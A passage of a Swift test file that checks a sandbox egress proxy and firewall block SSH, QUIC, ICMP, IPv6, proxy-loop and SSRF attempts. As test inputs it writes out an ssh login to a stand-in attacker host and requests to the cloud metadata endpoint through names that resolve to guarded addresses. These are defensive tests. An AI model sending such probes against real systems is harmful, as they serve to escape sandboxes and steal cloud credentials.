        XCTAssertEqual(try asSandboxUser([python, "-c", pingScript, "127.0.0.1", "::1"]).stdout, "reply reply\n", "ping control")

        let before = try counters()
        let m = mark()
        let targets = [Address.evil, Address.evil6, Address.good, Address.good6, Lab.Address.blocked]
        // SSH and other TCP ports (80 and 443 go to the proxy, below).
        for host in targets {
            for port in [22, 8080, 8443] {
                let p = try lab.tcp(host, port, timeout: 1, user: Self.sandboxUser)
                XCTAssertNotEqual(p.outcome, .connected, "tcp \(host):\(port): \(p)")
            }
        }
        let ssh = try asSandboxUser([try tool("ssh"), "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no",
                                     "-o", "UserKnownHostsFile=/dev/null", "-p", "22", "attacker@\(Address.evil)", "true"])
        XCTAssertNotEqual(ssh.status, 0)
        XCTAssertTrue(ssh.stderr.lowercased().contains("refused") || ssh.stderr.lowercased().contains("unreachable")
                      || ssh.stderr.lowercased().contains("not permitted"), "ssh: \(ssh.stderr)")
        // QUIC: UDP 443 to blocked and to allowed hosts (the proxy sees TCP only).
        let quic = try asSandboxUser([python, "-c", udpScript] + targets)
        XCTAssertFalse(quic.stdout.contains("answered"), "UDP 443: \(quic.stdout)\(quic.stderr)")
        XCTAssertEqual(quic.stdout.split(separator: " ").count, targets.count, quic.stderr)
        // ICMP echo.
        let ping = try asSandboxUser([python, "-c", pingScript] + targets + [Lab.Address.resolver])
        XCTAssertFalse(ping.stdout.contains("reply"), "ICMP echo: \(ping.stdout)\(ping.stderr)")
        XCTAssertEqual(ping.stdout.split(separator: " ").count, targets.count + 1, ping.stderr)
        // IPv6 to a blocked host through the transparent ports: the redirect takes it, the
        // proxy closes it (no allowed identity).
        for url in ["https://evil.lab.test/", "http://evil.lab.test/"] {
            let c = try curl(["-6", "-k", "--resolve", "evil.lab.test:443:[\(Address.evil6)]", "--resolve", "evil.lab.test:80:[\(Address.evil6)]", url])
            XCTAssertFalse(c.code.hasPrefix("2"), "\(url) over IPv6: \(c.text)")
        }
        try assertCountersUnchanged(since: before, ["evil4", "evil6", "blocked4", "good4-not-tcp", "good6-not-tcp", "good4-other-ports",
                                                    "good6-other-ports", "metadata"], "SSH, QUIC, ICMP, IPv6")
        assertNothingReached(since: m, .nothing, "SSH, QUIC, ICMP, IPv6")
    }

    // MARK: - Loops and guarded addresses

    func testConnectToTheProxyItself() throws {
        let targets = ["127.0.0.1:3128", "127.0.0.1:3130", "[::1]:3128", "[::1]:3130", "localhost:3128", "LOCALHOST.:3130",
                       "ip6-localhost:3128", "0.0.0.0:3128", "2130706433:3128", "loop.lab.test:3128", "loop.lab.test:3130",
                       "loop6.lab.test:3128"]
        let m = mark()
        var attempts = targets.map { Attempt(name: "CONNECT \($0)", connect: $0) }
        attempts += targets.map { Attempt(name: "GET http://\($0)/", send: [request("http://\($0)/", host: $0)]) }
        attempts += [
            // Straight to the transparent port (not redirected, so no original destination).
            Attempt(name: "transparent port: Host loop", proxy: nil, dial: "127.0.0.1:3130", send: [request("/", host: "loop.lab.test")]),
            Attempt(name: "transparent port: Host of itself", proxy: nil, dial: "127.0.0.1:3130", send: [request("/", host: "127.0.0.1:3130")]),
            tls("transparent port: SNI loop", dial: "127.0.0.1:3130", sni: "loop.lab.test", send: [request("/", host: "loop.lab.test")]),
            // A plain-HTTP request on the proxy port that names the proxy port.
            Attempt(name: "absolute form to the proxy port", send: [request("http://loop.lab.test:3128/", host: "loop.lab.test:3128")]),
        ]
        let outcomes = try attempt(attempts)
        for t in targets {
            let host = String(t[..<t.lastIndex(of: ":")!])
            let isName = !host.hasPrefix("[") && !host.first!.isNumber
            let allowed = host.hasPrefix("loop")
            assertRefused(outcomes["CONNECT \(t)"], 403, reason: allowed ? "resolved to" : (isName ? "not allowed" : "is an IP address"))
            assertRefused(outcomes["GET http://\(t)/"], 403, reason: allowed ? "resolved to" : (isName ? "not allowed" : "is an IP address"))
        }
        assertRefused(outcomes["transparent port: Host loop"], 403, reason: "resolved to")
        assertRefused(outcomes["transparent port: Host of itself"], 403, reason: "is an IP address")
        assertClosed(outcomes["transparent port: SNI loop"])
        assertRefused(outcomes["absolute form to the proxy port"], 403, reason: "resolved to")
        assertNothingReached(since: m, .nothing, "loops")
        // The proxy is still there and serving.
        let c = try curl(viaProxy + fwctlCA + ["-H", keyHeader, "https://\(anthropic)/echo"])
        XCTAssertEqual(c.code, "200", c.text)
    }

    func testAllowedNamesThatResolveToGuardedAddresses() throws {
        // Controls: the victims record what reaches them, and the names resolve as planned.
        let m0 = mark()
        try lab.exec(in: lab.sandbox, [try tool("curl"), "-s", "-o", "/dev/null", "http://127.0.0.1/control"])
        try lab.exec(in: lab.outside, [try tool("curl"), "-s", "-o", "/dev/null", "http://\(Address.metadata)/control"])
        XCTAssertEqual(requests(since: m0).count, 2, "the victims record requests: \(describe(events(since: m0)))")
        let answers = try asSandboxUser([try tool("dig"), "@\(Lab.Address.resolver)", "+short", "+time=2", "+tries=1",
                                         "meta.lab.test", "A", "loop.lab.test", "A", "loop6.lab.test", "AAAA",
                                         "mapped.lab.test", "AAAA", "zero.lab.test", "A"]).stdout
        XCTAssertEqual(answers.split(separator: "\n"), ["169.254.169.254", "127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0"], answers)

        let before = try counters()
        let m = mark()
        let names = ["loop.lab.test", "loop6.lab.test", "meta.lab.test", "mapped.lab.test", "zero.lab.test", "LOOP.LAB.TEST."]
        var attempts = names.map { Attempt(name: "CONNECT \($0)", connect: "\($0):443") }
        attempts += ["loop.lab.test", "loop6.lab.test", "meta.lab.test"].map { (name: String) in
            Attempt(name: "GET http://\(name)/", send: [request("http://\(name)/latest/meta-data/", host: name)])
        }
        attempts += ["loop.lab.test", "meta.lab.test", "mapped.lab.test", "zero.lab.test"].map { (name: String) in
            tls("transparent \(name)", dial: "\(Address.good):443", sni: name, send: [request("/latest/meta-data/", host: name)])
        }
        attempts += ["loop.lab.test", "meta.lab.test"].map { (name: String) in
            Attempt(name: "plain transparent \(name)", proxy: nil, dial: "\(Address.good):80", send: [request("/latest/meta-data/", host: name)])
        }
        let outcomes = try attempt(attempts)
        for (name, o) in outcomes where !name.hasPrefix("transparent") {
            assertRefused(o, 403, reason: "resolved to")
        }
        for (name, o) in outcomes where name.hasPrefix("transparent") { assertClosed(o) }
        assertNothingReached(since: m, .nothing, "allowed names pointing at guarded addresses")
        try assertCountersUnchanged(since: before, ["metadata"], "the metadata address")
        let log = jsonLines(work("log/access.jsonl")).filter { ($0["reason"] as? String ?? "").contains("resolved to") }
        XCTAssertGreaterThanOrEqual(log.count, attempts.count, "every refusal is logged with the dial guard's reason:\n\(accessLog())")
    }
}
